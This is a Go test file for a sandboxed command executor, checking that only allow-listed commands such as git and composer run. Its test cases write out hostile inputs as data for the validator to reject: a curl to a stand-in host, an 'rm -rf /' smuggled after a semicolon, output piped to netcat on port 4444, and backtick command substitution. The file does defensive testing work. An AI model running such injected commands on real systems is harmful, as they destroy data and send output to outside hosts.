package security

import (
	"context"
	"strings"
	"testing"
)

func TestSandboxedExecutor_ValidateCommandParts(t *testing.T) {
	executor := NewSandboxedExecutor(t.TempDir())

	tests := []struct {
		name    string
		cmd     []string
		wantErr bool
	}{
		{"allowed command", []string{"git", "status"}, false},
		{"allowed with flags", []string{"composer", "install", "--no-dev"}, false},
		{"disallowed command", []string{"curl", "http://evil.example"}, true},
		{"empty command", []string{}, true},
		{"semicolon in arg", []string{"git", "status;rm -rf /"}, true},
		{"pipe in arg", []string{"git", "log|nc evil 4444"}, true},
		{"command substitution", []string{"git", "checkout", "`id`"}, true},
		{"variable expansion", []string{"echo", "$HOME"}, true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := executor.ValidateCommandParts(tt.cmd)
			if (err != nil) != tt.wantErr {
				t.Errorf("ValidateCommandParts(%v) error = %v, wantErr %v", tt.cmd, err, tt.wantErr)
			}
		})
	}
}

func TestSandboxedExecutor_Execute(t *testing.T) {
	executor := NewSandboxedExecutor(t.TempDir())

	t.Run("rejects disallowed command", func(t *testing.T) {
		_, err := executor.Execute(context.Background(), []string{"bash", "-c", "true"})
		if err == nil {
			t.Error("Execute() expected error for disallowed command")
		}
	})

	t.Run("runs allowed command", func(t *testing.T) {
		output, err := executor.Execute(context.Background(), []string{"git", "--version"})
		if err != nil {
			t.Skipf("git not available: %v", err)
		}
		if !strings.Contains(string(output), "git version") {
			t.Errorf("Execute() output = %q, want git version string", output)
		}
	})
}

func TestSandboxedExecutor_AddAllowedCommand(t *testing.T) {
	executor := &SandboxedExecutor{}

	if executor.IsCommandAllowed("artisan") {
		t.Error("IsCommandAllowed() = true before AddAllowedCommand")
	}

	executor.AddAllowedCommand("artisan")

	if !executor.IsCommandAllowed("artisan") {
		t.Error("IsCommandAllowed() = false after AddAllowedCommand")
	}
}
